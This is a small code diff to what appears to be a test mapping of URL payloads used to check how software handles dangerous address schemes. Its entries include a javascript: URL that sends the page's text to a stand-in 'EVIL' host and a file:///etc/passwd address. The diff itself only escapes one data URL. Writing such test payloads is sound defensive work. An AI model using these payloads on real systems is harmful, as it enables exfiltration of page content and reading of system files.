@@ -134,7 +134,7 @@ ADDRESSES: Mapping[str, str] = {
     "short": "http://127.1:PORT/",
     "https": "https://127.0.0.1:PORT/",
     "javascript": "javascript:fetch('EVIL/?'+document.body.innerText)",
-    "data": "data:text/html,<img/src=EVIL/>",
+    "data": "data:text/html,&lt;img/src=EVIL/&gt;",
     "a file": "file:///etc/passwd",
     "source": "view-source:EVIL/",
     "websocket": "ws://127.0.0.1:PORT/",
